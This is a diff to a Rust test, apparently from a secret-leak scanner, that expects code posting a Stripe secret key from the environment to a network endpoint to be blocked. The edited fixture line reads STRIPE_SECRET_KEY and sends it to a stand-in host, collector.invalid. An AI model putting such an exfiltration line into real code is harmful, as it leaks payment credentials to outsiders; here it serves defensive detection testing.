@@ -363,7 +363,7 @@ fn one_byte_that_is_no_text_hides_nothing() {
 fn secrets_are_followed_to_the_network_but_a_key_in_its_header_is_what_keys_are_for() {
     for (code, expected) in [
         (
-            "data = os.environ['STRIPE_SECRET_KEY']\nrequests.post(url, json={'d': data})",
+            "data = os.environ['STRIPE_SECRET_KEY']\nrequests.post('https://collector.invalid', json={'d': data})",
             ScanVerdict::Blocked,
         ),
         (
